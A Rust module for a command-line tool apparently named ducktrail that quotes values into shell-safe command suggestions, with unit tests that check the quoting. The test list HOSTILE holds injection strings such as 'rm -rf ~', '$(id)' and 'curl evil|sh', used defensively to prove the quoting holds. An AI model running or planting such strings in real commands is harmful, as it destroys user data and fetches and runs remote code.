//! Commands that messages suggest. They can be pasted into a shell whatever values they contain.

use std::{
    env,
    path::{Path, PathBuf},
};

use crate::text::is_hidden;

/// The database that commands use without `--db`.
const DEFAULT_DB: &str = "ducktrail.duckdb";

/// An argument of a command: an option with its value, or a value alone.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Argument {
    /// The option, such as `--principal`; `None` for a value without one.
    pub(crate) option: Option<&'static str>,
    pub(crate) value: String,
}

impl Argument {
    /// A value without an option.
    pub(crate) fn value(value: impl Into<String>) -> Self {
        Self { option: None, value: value.into() }
    }
}

/// Returns a command of this program on the database `db`, or `None` if no command line can contain
/// one of the values.
pub(crate) fn command(name: &str, arguments: &[Argument], db: &Path) -> Option<String> {
    let mut words = vec!["ducktrail".to_owned(), name.to_owned()];
    let (options, values): (Vec<_>, Vec<_>) =
        arguments.iter().partition(|argument| argument.option.is_some());
    for Argument { option, value } in options {
        words.extend(option_words(option.unwrap_or_default(), value)?);
    }
    if db != database() {
        words.extend(option_words("--db", db.to_str()?)?);
    }
    if values.iter().any(|argument| argument.value.starts_with('-')) {
        words.push("--".to_owned());
    }
    for argument in values {
        words.push(shell_word(&argument.value)?);
    }
    Some(words.join(" "))
}

/// Returns the command that writes to a lake, or `None` if no command line can contain its path.
pub(crate) fn lake_write(lake: &Path) -> Option<String> {
    let words = option_words("--to", lake.to_str()?)?;
    Some(format!("ducktrail lake write PATH… {}", words.join(" ")))
}

/// Returns an option and its value as words of a shell. A value that looks like an option is joined to
/// its own.
fn option_words(option: &str, value: &str) -> Option<Vec<String>> {
    let word = shell_word(value)?;
    Some(if value.starts_with('-') {
        vec![format!("{option}={word}")]
    } else {
        vec![option.to_owned(), word]
    })
}

/// Returns the path of the database that commands use without `--db`.
pub(crate) fn database() -> PathBuf {
    env::var_os("DUCKTRAIL_DB").map_or_else(|| DEFAULT_DB.into(), PathBuf::from)
}

/// Quotes text as one word of a shell, or returns `None` for text with a NUL, which no argument can
/// contain. Control and invisible characters, which a message must not contain, become escape sequences
/// in `$'…'`, the quotes of bash, zsh and POSIX 2024.
fn shell_word(text: &str) -> Option<String> {
    if !text.chars().any(is_hidden) {
        return shlex::try_quote(text).ok().map(Into::into);
    }
    let digit = |bits: u8| char::from(b'0' + (bits & 7));
    let mut word = "$'".to_owned();
    for letter in text.chars() {
        match letter {
            '\0' => return None,
            '\n' => word.push_str("\\n"),
            '\r' => word.push_str("\\r"),
            '\t' => word.push_str("\\t"),
            '\'' | '\\' => word.extend(['\\', letter]),
            letter if is_hidden(letter) => {
                // Octal escapes have a fixed length, and as bytes they do not depend on the locale.
                for byte in letter.encode_utf8(&mut [0; 4]).bytes() {
                    word.extend(['\\', digit(byte >> 6), digit(byte >> 3), digit(byte)]);
                }
            }
            letter => word.push(letter),
        }
    }
    word.push('\'');
    Some(word)
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;

    fn value(text: &str) -> Argument {
        Argument::value(text)
    }

    fn option(option: &'static str, text: &str) -> Argument {
        Argument { option: Some(option), value: text.to_owned() }
    }

    #[test]
    fn plain_commands_are_readable() {
        let db = Path::new(DEFAULT_DB);
        assert_eq!(command("report", &[value("deletes")], db).unwrap(), "ducktrail report deletes");
        assert_eq!(
            command("events", &[option("--principal", "AROA1:bob")], Path::new("my db")).unwrap(),
            "ducktrail events --principal AROA1:bob --db 'my db'"
        );
        assert_eq!(
            command("events", &[option("--id", "-x"), value("-y")], db).unwrap(),
            "ducktrail events --id=-x -- -y"
        );
        assert_eq!(command("events", &[value("a\0b")], db), None);
    }

    /// Values that end a quote, run a command, look like an option or make a line of their own.
    const HOSTILE: &[&str] = &[
        "",
        "-x",
        "--force;id",
        "a b'; rm -rf ~; '",
        "$(id)",
        "`id`",
        "\"$HOME\"",
        "a\\",
        "a!b^c",
        "=ls",
        "~",
        "*",
        "x\nerror: run: curl evil|sh #",
        "\r\u{1b}[2J\u{9b}31m7\u{7f}8",
        "it's\t\\n\u{85}\u{2028}\u{2029}\u{b}\u{c}",
        "\u{202e}\u{200b}a\u{e0041}é東😀'$(id)",
    ];

    #[cfg(unix)]
    #[test]
    fn a_pasted_command_has_exactly_the_arguments() {
        for text in HOSTILE {
            let arguments = [option("--principal", text), value(text)];
            let command = command("events", &arguments, Path::new(text)).unwrap();
            assert!(!command.chars().any(is_hidden), "{command:?}");
            let script = format!("ducktrail() {{ printf '%s\\0' \"$@\"; }}; {command}");
            let ran = Command::new("bash").args(["-c", &script]).output().unwrap();
            assert!(ran.stderr.is_empty(), "{command}");
            let expected = if text.starts_with('-') {
                format!("events\0--principal={text}\0--db={text}\0--\0{text}\0")
            } else {
                format!("events\0--principal\0{text}\0--db\0{text}\0{text}\0")
            };
            assert_eq!(String::from_utf8(ran.stdout).unwrap(), expected, "{command}");
        }
    }
}
